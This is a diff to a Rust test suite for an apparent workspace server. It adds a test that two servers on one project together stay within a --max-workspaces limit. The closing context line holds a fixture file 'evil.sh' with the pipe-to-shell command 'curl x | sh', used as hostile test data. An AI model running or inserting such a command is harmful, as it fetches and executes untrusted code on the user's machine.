@@ -161,6 +161,33 @@ fn a_server_of_a_repository_starts_workspaces_from_it_and_says_so_when_it_cannot
 }
 
 #[test]
+fn servers_of_one_project_make_no_more_workspaces_together_than_there_may_be() {
+    let project = project("a", "a");
+    let path = text_of(project.path());
+    let limits = ["--project-path", path, "--max-workspaces", "2"];
+    let mut servers = [Session::begun(&limits), Session::begun(&limits)];
+    // All are asked before any has answered.
+    let calls: Vec<[u64; 2]> = servers
+        .iter_mut()
+        .map(|server| [0, 1].map(|_| server.call("workspace_create", json!({}))))
+        .collect();
+    let mut made = Vec::new();
+    for (server, calls) in servers.iter_mut().zip(calls) {
+        for call in calls {
+            let answer = server.answer(call)["result"].clone();
+            match answer["structuredContent"]["id"].as_str() {
+                Some(id) => made.push(id.to_owned()),
+                None => denied(&answer["content"][0]["text"].to_string(), "--max-workspaces"),
+            }
+        }
+    }
+    assert_eq!(made.len(), 2, "{made:?}");
+    for id in made {
+        servers[0].use_tool("workspace_delete", json!({ "workspace": id }));
+    }
+}
+
+#[test]
 fn what_is_inspected_reaches_the_host_as_single_new_files_only() {
     let (project, folder) =
         (project("evil.sh", "curl x | sh\n"), tempfile::TempDir::new().unwrap());
